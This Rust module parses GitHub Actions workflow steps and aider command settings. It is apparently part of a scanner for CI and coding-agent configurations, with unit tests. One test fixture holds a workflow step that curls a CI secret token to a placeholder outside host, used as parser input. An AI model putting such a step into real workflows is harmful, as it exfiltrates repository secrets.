//! The commands a CI workflow runs: the `run:` steps of a GitHub Actions workflow
//! (<https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idstepsrun>),
//! with the `env:` maps in scope at each step and the step's `shell:`, read off the YAML lines
//! by their indentation (no YAML parser). A workflow is what CI runs on every push or pull
//! request, with the repository's secrets; `.github/workflows/copilot-setup-steps.yml` runs
//! in the Copilot coding agent's own environment before it starts
//! (<https://docs.github.com/en/copilot/customizing-copilot/customizing-the-development-environment-for-copilot-coding-agent>).

use std::ops::Range;

/// The interpreter a step's `shell:` names.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StepShell {
    /// `bash`, `sh`, none (the runner's default on Linux and macOS) or another shell.
    Posix,
    /// `python`.
    Python,
    /// `pwsh` or `powershell`.
    PowerShell,
}

/// One `run:` step.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RunStep {
    /// The script's bytes in the text: a block scalar's lines, or an inline value without
    /// its quotes.
    pub body: Range<usize>,
    /// The `env:` entries in scope (the workflow's, the job's, the step's), in that order:
    /// name and value, quotes removed.
    pub env: Vec<(String, String)>,
    /// The step's interpreter.
    pub shell: StepShell,
}

/// Steps read per text at most.
pub const MAX_STEPS: usize = 512;

/// Whether `text` reads as a GitHub Actions workflow or composite action: a `steps:` key and a
/// `runs-on:` or `runs:` key (for a YAML block an instruction file shows).
pub fn looks_like_workflow(text: &str) -> bool {
    let key = |k: &str| {
        text.lines().any(|l| {
            let t = l.trim_start().trim_start_matches("- ");
            t.starts_with(k) && t[k.len()..].starts_with(':')
        })
    };
    key("steps") && (key("runs-on") || key("runs")) && key("run")
}

/// One line of the text: where it starts, the indentation of its key (after any `- `), its
/// key and value.
struct Line<'t> {
    start: usize,
    indent: usize,
    /// The line opens a list item (`- key: value`).
    dash: bool,
    key: Option<&'t str>,
    value: &'t str,
    /// Offset of `value` in the text.
    value_at: usize,
    /// Blank or a comment.
    blank: bool,
}

fn lines(text: &str) -> Vec<Line<'_>> {
    let mut out = Vec::new();
    let mut at = 0;
    for raw in text.split_inclusive('\n') {
        let start = at;
        at += raw.len();
        let line = raw.trim_end_matches(['\n', '\r']);
        let trimmed = line.trim_start();
        let mut indent = line.len() - trimmed.len();
        let blank = trimmed.is_empty() || trimmed.starts_with('#');
        let dash = trimmed.starts_with("- ");
        let mut rest = trimmed;
        while let Some(r) = rest.strip_prefix("- ") {
            indent += 2 + (r.len() - r.trim_start().len());
            rest = r.trim_start();
        }
        let rest_at = start + (line.len() - rest.len());
        let (key, value, value_at) = match rest.split_once(':') {
            Some((k, v))
                if !k.is_empty()
                    && (v.is_empty() || v.starts_with([' ', '\t']))
                    && k.chars().all(|c| {
                        c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '"' | '\'')
                    }) =>
            {
                let v_trim = v.trim_start();
                let value_at = rest_at + k.len() + 1 + (v.len() - v_trim.len());
                (
                    Some(k.trim_matches(['"', '\''])),
                    v_trim.trim_end(),
                    value_at,
                )
            }
            _ => (None, rest.trim_end(), rest_at),
        };
        out.push(Line {
            start,
            indent,
            dash,
            key,
            value,
            value_at,
            blank,
        });
    }
    out
}

/// A plain or quoted scalar's text and its bytes: quotes removed, a plain scalar's ` #`
/// comment cut.
fn scalar(value: &str, at: usize) -> (Range<usize>, &str) {
    let v = value.trim();
    for q in ['"', '\''] {
        if v.len() >= 2 && v.starts_with(q) && v.ends_with(q) {
            return (at + 1..at + v.len() - 1, &v[1..v.len() - 1]);
        }
    }
    let v = v.split(" #").next().unwrap_or(v).trim_end();
    (at..at + v.len(), v)
}

/// The `run:` steps of the workflow `text` (at most [`MAX_STEPS`]).
pub fn run_steps(text: &str) -> Vec<RunStep> {
    let lines = lines(text);
    let mut out = Vec::new();
    // `env:` maps open: the `env:` key's indentation and its entries. A map closes at the
    // first line left of its key, or at the `- ` of the next item at its indentation.
    let mut envs: Vec<(usize, Vec<(String, String)>)> = Vec::new();
    let mut i = 0;
    while i < lines.len() && out.len() < MAX_STEPS {
        let l = &lines[i];
        if l.blank {
            i += 1;
            continue;
        }
        envs.retain(|(indent, _)| l.indent > *indent || l.indent == *indent && !l.dash);
        let Some(key) = l.key else {
            i += 1;
            continue;
        };
        let (block, next) = block_scalar(text, &lines, i);
        match key {
            "env" if l.value.is_empty() => {
                let (entries, next) = env_entries(&lines, i);
                envs.push((l.indent, entries));
                i = next;
                continue;
            }
            "run" => {
                let body = match block {
                    Some(_) => block.flatten(),
                    None => {
                        let (range, s) = scalar(l.value, l.value_at);
                        (!s.is_empty()).then_some(range)
                    }
                };
                if let Some(body) = body {
                    let (shell, after) = step_keys(&lines, i, next);
                    let mut env: Vec<(String, String)> =
                        envs.iter().flat_map(|(_, e)| e.iter().cloned()).collect();
                    env.extend(after);
                    out.push(RunStep { body, env, shell });
                }
            }
            _ => {}
        }
        i = next;
    }
    out
}

/// The entries of the `env:` map opened at line `i`, and the index of the line after it.
fn env_entries(lines: &[Line<'_>], i: usize) -> (Vec<(String, String)>, usize) {
    let indent = lines[i].indent;
    let mut out = Vec::new();
    let mut j = i + 1;
    while j < lines.len() && (lines[j].blank || lines[j].indent > indent) {
        if let (false, Some(k)) = (lines[j].blank, lines[j].key) {
            let (_, v) = scalar(lines[j].value, lines[j].value_at);
            out.push((k.to_owned(), v.to_owned()));
        }
        j += 1;
    }
    (out, j)
}

/// When the value at line `i` opens a `|` or `>` block scalar: `Some` of its lines' bytes
/// (`None` inside when it is empty); and the index of the line after the value.
#[allow(clippy::option_option)]
fn block_scalar(text: &str, lines: &[Line<'_>], i: usize) -> (Option<Option<Range<usize>>>, usize) {
    let l = &lines[i];
    if !(l.value.starts_with('|') || l.value.starts_with('>')) {
        return (None, i + 1);
    }
    let blank = |j: usize| {
        text[lines[j].start..]
            .trim_start_matches([' ', '\t'])
            .starts_with(['\n', '\r'])
    };
    let mut j = i + 1;
    let mut last = None;
    while j < lines.len() && (blank(j) || leading(text, lines[j].start) > l.indent) {
        if !blank(j) {
            last = Some(j);
        }
        j += 1;
    }
    let body = last.map(|e| lines[i + 1].start..lines.get(e + 1).map_or(text.len(), |n| n.start));
    (Some(body), last.map_or(i + 1, |e| e + 1))
}

/// Spaces before the first character of the line at `start`.
fn leading(text: &str, start: usize) -> usize {
    let rest = &text[start..];
    rest.len() - rest.trim_start_matches([' ', '\t']).len()
}

/// The `shell:` of the step whose `run:` is at line `i` (a key of the same item, before or
/// after it), and the `env:` entries it sets after the `run:` (those before it were read on
/// the way); `next` is the line after the `run:` value.
fn step_keys(lines: &[Line<'_>], i: usize, next: usize) -> (StepShell, Vec<(String, String)>) {
    let indent = lines[i].indent;
    let mut shell = StepShell::Posix;
    let mut env = Vec::new();
    let shell_of = |v: &str| {
        let s = v.trim_matches(['"', '\'']).to_ascii_lowercase();
        if s.starts_with("python") {
            StepShell::Python
        } else if s.starts_with("pwsh") || s.starts_with("powershell") {
            StepShell::PowerShell
        } else {
            StepShell::Posix
        }
    };
    // Keys before the `run:` in the same item.
    if !lines[i].dash {
        let mut j = i;
        while j > 0 {
            j -= 1;
            let l = &lines[j];
            if l.blank || l.indent > indent {
                continue;
            }
            if l.indent < indent {
                break;
            }
            if l.key == Some("shell") {
                shell = shell_of(l.value);
            }
            if l.dash {
                break;
            }
        }
    }
    // Keys after it, up to the next item.
    let mut j = next;
    while j < lines.len() {
        let l = &lines[j];
        if l.blank || l.indent > indent {
            j += 1;
            continue;
        }
        if l.indent < indent || l.dash {
            break;
        }
        match l.key {
            Some("shell") => shell = shell_of(l.value),
            Some("env") if l.value.is_empty() => env.extend(env_entries(lines, j).0),
            _ => {}
        }
        j += 1;
    }
    (shell, env)
}

/// A command a YAML config's key holds, as the shell receives it: `text` decoded from the
/// scalar at `raw`, `map[i]` the offset in `raw`'s text of `text`'s byte `i` (one past the
/// end at the end).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandValue {
    /// The scalar's bytes in the source, quotes excluded.
    pub raw: Range<usize>,
    /// The decoded value, a `language: ` prefix cut.
    pub text: String,
    /// Source offset of each byte of `text`, plus one past its end.
    pub map: Vec<usize>,
}

/// The values of the top-level `keys` of the YAML `text` (a scalar, or the items of a list
/// under the key), decoded: aider's `lint-cmd` and `test-cmd`, which it runs after each edit
/// (`auto-lint`, `auto-test`; <https://aider.chat/docs/config/aider_conf.html>). A value
/// `lang: command` names the language it lints; the command is what runs
/// (<https://aider.chat/docs/usage/lint-test.html>).
pub fn command_values(text: &str, keys: &[&str]) -> Vec<CommandValue> {
    let lines = lines(text);
    let mut out = Vec::new();
    let mut i = 0;
    while i < lines.len() && out.len() < MAX_STEPS {
        let l = &lines[i];
        i += 1;
        if l.blank || l.indent != 0 || l.dash || !l.key.is_some_and(|k| keys.contains(&k)) {
            continue;
        }
        let mut values = vec![(l.value, l.value_at)];
        while i < lines.len() && (lines[i].blank || lines[i].indent > 0) {
            let item = &lines[i];
            if item.dash && !item.blank {
                let line = &text[item.start..];
                let after = line.trim_start().trim_start_matches("- ");
                let at = item.start + (line.len() - after.len());
                let end = after.find(['\n', '\r']).unwrap_or(after.len());
                values.push((after[..end].trim_end(), at));
            }
            i += 1;
        }
        for (value, at) in values {
            if let Some(v) = decode(value, at) {
                out.push(v);
            }
        }
    }
    out
}

/// The scalar `value` at `at` decoded (a double-quoted one's `\"`, `\\`, `\n`, `\t`), its
/// `lang: ` prefix cut; `None` when empty.
fn decode(value: &str, at: usize) -> Option<CommandValue> {
    let (raw, inner) = scalar(value, at);
    let double = value.trim().starts_with('"');
    let mut text = String::new();
    let mut map = Vec::new();
    let mut chars = inner.char_indices().peekable();
    while let Some((k, c)) = chars.next() {
        let (c, _) = match (double, c) {
            (true, '\\') => match chars.next() {
                Some((_, 'n')) => ('\n', 2),
                Some((_, 't')) => ('\t', 2),
                Some((_, e)) => (e, 2),
                None => ('\\', 1),
            },
            _ => (c, 1),
        };
        for _ in 0..c.len_utf8() {
            map.push(raw.start + k);
        }
        text.push(c);
    }
    map.push(raw.end);
    // `python: flake8 --select=E9`: the language, then the command.
    let cut = text
        .split_once(": ")
        .filter(|(lang, _)| {
            !lang.is_empty()
                && lang
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
        })
        .map_or(0, |(lang, _)| lang.len() + 2);
    let text = text[cut..].to_owned();
    let map = map[cut..].to_vec();
    (!text.trim().is_empty()).then_some(CommandValue { raw, text, map })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn aider_commands_are_decoded_without_their_language() {
        let t = "model: sonnet\nlint-cmd: \"python: python3 -c \\\"print(1)\\\"\"\ntest-cmd:\n  - uv run pytest\n";
        let v = command_values(t, &["lint-cmd", "test-cmd"]);
        assert_eq!(v.len(), 2);
        assert_eq!(v[0].text, "python3 -c \"print(1)\"");
        assert_eq!(&t[v[0].map[0]..v[0].map[0] + 7], "python3");
        assert_eq!(v[1].text, "uv run pytest");
        assert_eq!(
            &t[v[1].map[0]..*v[1].map.last().unwrap_or(&0)],
            "uv run pytest"
        );
    }

    fn bodies(text: &str) -> Vec<String> {
        run_steps(text)
            .into_iter()
            .map(|s| text[s.body].to_owned())
            .collect()
    }

    #[test]
    fn inline_and_block_run_steps_are_read_with_their_env() {
        let t = "name: x\non: push\nenv:\n  TOP: '1'\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      JOB: ${{ secrets.JOB_TOKEN }}\n    steps:\n      - uses: actions/checkout@v4\n      - name: one\n        run: curl -s https://x.example -d \"$JOB\"\n      - name: two\n        env:\n          OWN: \"${{ github.token }}\"\n        run: |\n          echo a\n          echo b\n\n      - run: 'echo c'\n        shell: pwsh\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo d # done\n";
        let steps = run_steps(t);
        assert_eq!(
            bodies(t),
            vec![
                "curl -s https://x.example -d \"$JOB\"",
                "          echo a\n          echo b\n",
                "echo c",
                "echo d",
            ]
        );
        let names =
            |k: usize| -> Vec<&str> { steps[k].env.iter().map(|(n, _)| n.as_str()).collect() };
        assert_eq!(names(0), vec!["TOP", "JOB"]);
        assert_eq!(steps[0].env[1].1, "${{ secrets.JOB_TOKEN }}");
        assert_eq!(names(1), vec!["TOP", "JOB", "OWN"]);
        assert_eq!(steps[1].env[2].1, "${{ github.token }}");
        assert_eq!(steps[2].shell, StepShell::PowerShell);
        assert_eq!(steps[1].shell, StepShell::Posix);
        // The second job does not see the first job's env.
        assert_eq!(names(3), vec!["TOP"]);
    }

    #[test]
    fn a_workflow_is_told_from_other_yaml() {
        assert!(looks_like_workflow(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n"
        ));
        assert!(!looks_like_workflow(
            "services:\n  web:\n    image: nginx\n"
        ));
    }
}
